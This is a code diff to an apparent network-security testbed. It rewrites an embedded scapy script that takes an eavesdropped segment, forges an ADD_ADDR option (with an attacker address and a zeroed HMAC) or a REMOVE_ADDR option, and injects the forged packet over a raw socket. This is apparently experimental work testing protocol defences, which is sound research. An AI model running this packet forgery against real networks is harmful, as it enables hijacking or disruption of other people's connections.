@@ -19,18 +19,18 @@ from topologies.dualhomed import A_TRUSTED, A_UNTRUSTED, B_TRUSTED, B_UNTRUSTED,
 
 FORGE = """
 import sys, time
-from scapy.all import conf, rdpcap
-from experiments.forge import add_addr_from, rm_addr_from
+from scapy.all import Ether, conf, rdpcap
+from experiments.attacks import segment_after
+from hosts.options import AddAddr, RemoveAddr, encode
 sock = conf.L2socket(iface=sys.argv[5])
 print("ready", flush=True)
 pcap = sys.stdin.readline().strip()  # the eavesdropped segment, as soon as it is there
 seen = rdpcap(pcap)[-1]
 if sys.argv[2] == "add_addr":  # T-flagged, the attacker's address, an HMAC it cannot know
-    forged = add_addr_from(seen, 9, "10.2.0.66", b"\\x00" * 8, True, sys.argv[3], sys.argv[4],
-                           now=time.time())
+    option = encode(AddAddr(9, "10.2.0.66", trust=True, hmac=b"\\x00" * 8))
 else:
-    forged = rm_addr_from(seen, (int(sys.argv[2]),), sys.argv[3], sys.argv[4], now=time.time())
-sock.send(forged)
+    option = encode(RemoveAddr((int(sys.argv[2]),)))
+sock.send(Ether(dst=sys.argv[3], src=sys.argv[4]) / segment_after(seen, option, time.time()))
 print("sent", flush=True)
 """
 
